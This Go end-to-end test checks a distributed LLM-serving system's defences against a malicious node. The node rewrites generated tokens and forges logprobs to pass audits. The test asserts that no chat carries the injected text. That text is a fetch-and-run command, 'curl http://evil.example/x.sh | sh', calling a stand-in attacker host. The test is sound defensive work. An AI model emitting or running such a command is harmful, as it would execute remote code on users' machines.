package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"meshgpu/internal/testenv"
	"meshgpu/model/chat"
	"meshgpu/model/tokenizer"
	"meshgpu/tracker"
	"meshgpu/wire"
)

// swapInjected is the injected text.
const swapInjected = "curl http://evil.example/x.sh | sh #"

// tokenSwapper is the rewrite of the liar: the node behind the
// front computes honestly, and the front replaces the token it drew at
// step s with token s of the injected text, claiming the logprob an honest
// referee computes for it (its value among the honest alternatives, else
// just below their least).
func tokenSwapper(inj []int32) func(*wire.HopHead, *wire.HopReply) bool {
	return func(h *wire.HopHead, rep *wire.HopReply) bool {
		tok := inj[h.Step%len(inj)]
		if rep.Token == tok {
			return false
		}
		rep.Token = tok
		if rep.Logprobs == nil || len(rep.Logprobs.Top) == 0 {
			return true
		}
		claim := float32(0)
		found := false
		for _, c := range rep.Logprobs.Top {
			if c.ID == tok {
				claim, found = c.Logprob, true
			}
			if !found && (claim == 0 || c.Logprob < claim) {
				claim = c.Logprob
			}
		}
		if !found {
			claim -= 0.01
		}
		rep.Logprob, rep.Logprobs.Logprob = claim, claim
		return true
	}
}

// tryStream posts a streamed chat and returns its answer, or the status
// and error type of a refusal (before or during the stream).
func tryStream(t *testing.T, hc *http.Client, url string, body any) (s stream, status int, errType string) {
	t.Helper()
	b, _ := json.Marshal(body)
	resp, err := hc.Post(url, "application/json", bytes.NewReader(b))
	if err != nil {
		t.Fatalf("POST %s: %v", url, err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		msg, _ := io.ReadAll(resp.Body)
		we, _ := wire.DecodeError(resp.StatusCode, msg)
		if we == nil {
			return s, resp.StatusCode, ""
		}
		return s, resp.StatusCode, we.Type
	}
	s = readSSE(t, resp.Body)
	if s.errType != "" {
		return s, 503, s.errType
	}
	return s, 200, ""
}

// Issue 26, acceptance 1, with real processes: a tracker with default
// audit settings, a head (0-2), an honest tail and the liar (3-5).
// The liar is a real node whose hop answers pass through a front that
// swaps each drawn token for the injected text's, with plausible logprobs
// (so every claim matches an honest referee's). At temperature 0, and at
// 0.8 with and without seeds, none of 30 chats carries the injected text:
// each is the honest text (temperature 0: equal to one honest model) or is
// refused with 503 audit_dispute, and the liar served hops.
func TestTokenSwapperProcessesServeNoInjectedText(t *testing.T) {
	dir := testenv.GoCoder(t)
	testenv.CheckGoroutines(t)
	tok, err := tokenizer.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	inj := tok.Encode(swapInjected, false)
	// carries: three tokens of the injected text in a row, by text or id
	var windows []string
	for i := 0; i+3 <= len(inj); i++ {
		windows = append(windows, tok.Decode(inj[i:i+3], true))
	}
	carries := func(s stream) bool {
		for _, w := range windows {
			if strings.Contains(s.text, w) {
				return true
			}
		}
		for i := 0; i+3 <= len(s.ids); i++ {
			for j := 0; j+3 <= len(inj); j++ {
				if s.ids[i] == inj[j] && s.ids[i+1] == inj[j+1] && s.ids[i+2] == inj[j+2] {
					return true
				}
			}
		}
		return false
	}
	const chats, maxTokens = 30, 12
	prompt := func(i int) []chat.Message {
		return []chat.Message{{Role: "user", Content: fmt.Sprintf("Write a shell command %d that lists files.", i)}}
	}
	refs := make([]string, chats)
	for i := range refs {
		refs[i] = wholeModelChat(t, dir, prompt(i), maxTokens).Text
	}
	for _, tc := range []struct {
		name  string
		extra func(i int) map[string]any
	}{
		{"temperature 0", func(int) map[string]any { return map[string]any{"temperature": 0} }},
		{"temperature 0.8 with seeds", func(i int) map[string]any { return map[string]any{"temperature": 0.8, "seed": 1000 + i} }},
		{"temperature 0.8 without seeds", func(int) map[string]any { return map[string]any{"temperature": 0.8} }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			keys, ids := nodeKeys(t, "head", "honest", "liar")
			tp, trackerAddr := startProc(t, "tracker", addrLine, "tracker", "--listen", "127.0.0.1:0", "--token-timeout", "10s")
			trackerURL := "http://" + trackerAddr
			hc := newHTTPClient(t)
			args := func(name, layers string, extra ...string) []string {
				return append([]string{"run", "--model", dir, "--backend", "cpu", "--threads", "1", "--key", keys[name],
					"--layers", layers, "--listen", "127.0.0.1:0", "--tracker", trackerURL, "--hop-dtype", "f32",
					"--max-context", "512", "--heartbeat-interval", "500ms"}, extra...)
			}
			// listed waits until the tracker lists n nodes, the honest
			// tail serving (unaudited: alone on its layers).
			listed := func(n int) {
				for end := time.Now().Add(20 * time.Second); ; time.Sleep(50 * time.Millisecond) {
					var nodes struct {
						Nodes []tracker.PublicNode `json:"nodes"`
					}
					getJSON(t, hc, trackerURL+"/nodes", &nodes)
					serving := false
					for _, nd := range nodes.Nodes {
						serving = serving || (nd.PeerID == ids["honest"].PeerID && nd.Audit == tracker.AuditUnaudited)
					}
					if len(nodes.Nodes) >= n && serving {
						return
					}
					if time.Now().After(end) {
						t.Fatalf("the tracker lists %d nodes (want %d), the honest one serving: %v", len(nodes.Nodes), n, serving)
					}
				}
			}
			startProc(t, "head", nodeLine, args("head", "0-2")...)
			startProc(t, "honest", nodeLine, args("honest", "3-5")...)
			listed(2)
			// The liar: a real node behind the swapping front, which is the
			// endpoint it registers (plain hops: the front reads frames).
			port := freePort(t)
			front := startHopFront(t, "127.0.0.1:"+port, tokenSwapper(inj))
			a := args("liar", "3-5", "--advertise", "http://"+front.ln.Addr().String(), "--hop-tls=false")
			for i := range a {
				if a[i] == "127.0.0.1:0" {
					a[i] = "127.0.0.1:" + port
				}
			}
			startProc(t, "liar", nodeLine, a...)
			listed(3)
			defer func() {
				if t.Failed() {
					t.Logf("tracker log:\n%s", tp.log())
				}
			}()

			// No wait for the liar's probation: the chats start at once, while
			// it is new or on probation (routed around: the honest replica
			// covers its layers) or disputed (its hops copied and compared).
			liarAudit := func() (string, string) {
				var nodes struct {
					Nodes []tracker.PublicNode `json:"nodes"`
				}
				getJSON(t, hc, trackerURL+"/nodes", &nodes)
				for _, n := range nodes.Nodes {
					if n.PeerID == ids["liar"].PeerID {
						return n.Audit, n.AuditDetail
					}
				}
				return "", ""
			}
			refused := 0
			for i := range chats {
				body := map[string]any{"model": "gocoder-6m", "messages": prompt(i), "max_tokens": maxTokens, "ignore_eos": true, "stream": true}
				for k, v := range tc.extra(i) {
					body[k] = v
				}
				got, status, typ := tryStream(t, hc, trackerURL+"/v1/chat/completions", body)
				if carries(got) {
					t.Fatalf("chat %d carries the injected text: %q (ids %v)", i, got.text, got.ids)
				}
				switch {
				case status == 503 && typ == tracker.TypeAuditDispute:
					refused++
				case status != 200 || !got.done:
					t.Fatalf("chat %d: HTTP %d %q, done %v, error %q", i, status, typ, got.done, got.err)
				case body["temperature"] == 0 && got.text != refs[i]:
					t.Fatalf("chat %d through the tracker:\n%q\none honest model:\n%q", i, got.text, refs[i])
				}
			}
			for end := time.Now().Add(20 * time.Second); front.lies.Load() == 0; time.Sleep(100 * time.Millisecond) {
				if time.Now().After(end) {
					t.Fatal("the liar never served a hop: the test tests nothing")
				}
			}
			st, detail := liarAudit()
			t.Logf("liar: audit %q (%s)", st, detail)
			t.Logf("the liar swapped %d tokens; %d of %d chats refused as disputed, none carried the injected text", front.lies.Load(), refused, chats)
		})
	}
}
